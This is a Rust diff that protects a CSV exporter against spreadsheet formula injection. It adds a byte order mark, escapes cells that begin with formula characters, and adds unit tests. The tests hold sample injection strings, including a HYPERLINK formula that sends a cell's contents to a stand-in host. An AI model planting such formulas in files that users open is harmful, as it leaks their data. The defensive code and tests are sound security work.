@@ -5,12 +5,22 @@ use serde::ser::{Serialize, SerializeMap, Serializer};
 
 use super::{Cell, Column, Table, TableError};
 
+/// Without it Excel reads UTF-8 as the code page of the machine, and `Tŷ` as `TÅ·`.
+const BYTE_ORDER_MARK: &[u8] = b"\xEF\xBB\xBF";
+
+/// What makes a spreadsheet run a cell, by OWASP's page on CSV injection: the full-width signs too. An apostrophe before it
+/// makes it text.
+const BEGINS_A_FORMULA: [char; 11] = [
+    '=', '+', '-', '@', '\t', '\r', '\n', '\u{FF1D}', '\u{FF0B}', '\u{FF0D}', '\u{FF20}',
+];
+
 impl Table {
-    /// The table as CSV (RFC 4180): a header, lines that end in CR LF, nothing as an empty field.
+    /// The table as CSV (RFC 4180): a header, lines that end in CR LF, nothing as an empty field. Spreadsheets open it as
+    /// it is: UTF-8 with a byte order mark, and no text that they would run as a formula.
     pub fn csv(&self) -> Result<Vec<u8>, TableError> {
         let mut writer = csv::WriterBuilder::new()
             .terminator(csv::Terminator::CRLF)
-            .from_writer(Vec::new());
+            .from_writer(BYTE_ORDER_MARK.to_vec());
         writer.write_record(self.columns.iter().map(|column| column.name))?;
         for row in &self.rows {
             writer.write_record(row.iter().map(field))?;
@@ -94,10 +104,58 @@ impl Serialize for Cell {
 fn field(cell: &Cell) -> String {
     match cell {
         Cell::Nothing => String::new(),
+        Cell::Text(text) if text.starts_with(BEGINS_A_FORMULA) => format!("'{text}"),
         Cell::Text(text) => text.clone(),
         Cell::Int(number) => number.to_string(),
         Cell::Float(number) => number.to_string(),
         Cell::Flag(flag) => flag.to_string(),
         Cell::Day(day) => day.to_string(),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::table::Columns;
+
+    fn csv_of(name: &str, change: f64) -> Vec<u8> {
+        let columns = Columns::new()
+            .text("school", |row: &(&str, f64)| Some(row.0.to_owned()))
+            .float("change", |row| Some(row.1))
+            .int("grams", |row| Some(row.1 as i64));
+        let table = Table::new("schools", columns, [(name, change)]);
+        table.csv().unwrap()
+    }
+
+    #[test]
+    fn text_that_begins_like_a_formula_is_text_and_numbers_stay_numbers() {
+        for name in [
+            "=HYPERLINK(\"http://x.example/?\"&A2,\"Oak\")",
+            "+Oak",
+            "-2+3 Oak",
+            "@SUM(1+1)*cmd",
+            "\t=1+1",
+            "\r=1+1",
+            "\u{FF1D}1+1",
+        ] {
+            let csv = csv_of(name, -2.5);
+            let mut read = csv::Reader::from_reader(csv.as_slice());
+            let record = read.records().next().unwrap().unwrap();
+            assert_eq!(record[0], format!("'{name}"));
+            assert_eq!((&record[1], &record[2]), ("-2.5", "-2"));
+        }
+    }
+
+    #[test]
+    fn csv_says_that_it_is_utf_8_and_other_text_is_as_it_is() {
+        let welsh = "Ysgol T\u{177} Ffynnon, St Mary\u{2019}s \"C/E\"";
+        for name in [welsh, "<b>Oak</b> & Ash\\", "Oak = Ash", "1 - 2"] {
+            let csv = csv_of(name, 1.0);
+            let text = std::str::from_utf8(&csv).unwrap();
+            assert!(text.starts_with("\u{feff}school,change,grams\r\n"));
+            let mut read = csv::Reader::from_reader(csv.as_slice());
+            assert_eq!(&read.headers().unwrap()[0], "school", "readers skip it");
+            assert_eq!(&read.records().next().unwrap().unwrap()[0], name);
+        }
     }
 }
